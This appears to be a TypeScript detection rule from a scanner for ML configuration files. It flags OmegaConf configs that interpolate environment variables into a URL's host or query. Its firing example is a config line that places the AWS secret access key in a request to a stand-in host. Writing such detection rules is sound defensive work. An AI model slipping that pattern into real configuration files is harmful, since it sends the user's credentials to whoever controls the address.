import { example, type ModelRule } from '../../rule.ts'
import { ORDINARY_CONFIGS } from './active-target.ts'
import { configWith } from './config-check.ts'

export const toldSetting: ModelRule = {
  id: 'config/told-setting',
  severity: 'high',
  verdict: 'suspicious',
  title: 'The configuration sends a credential of the machine with an address',
  source: 'https://omegaconf.readthedocs.io/en/latest/custom_resolvers.html#oc-env',
  taxonomy: ['CWE-201', 'CWE-522', 'AML.T0024'],
  why: 'OmegaConf puts variables of the environment into texts. Behind the host of an address they are sent to whoever holds it.',
  remedy: 'Take the variable out of the address, and renew the credential if this was loaded.',
  examples: {
    fires: [example('config.yaml', `data: "https://c.example/d.json?k=\${oc.env:AWS_SECRET_ACCESS_KEY}"\n`)],
    silent: [
      ...ORDINARY_CONFIGS,
      example(
        'config.yaml',
        `data: "https://c.example/\${oc.env:USER}/d.json"\ntoken: \${oc.env:HF_TOKEN}\n`,
      ),
    ],
  },
  check: (subject) => configWith(subject, 'told-setting'),
}
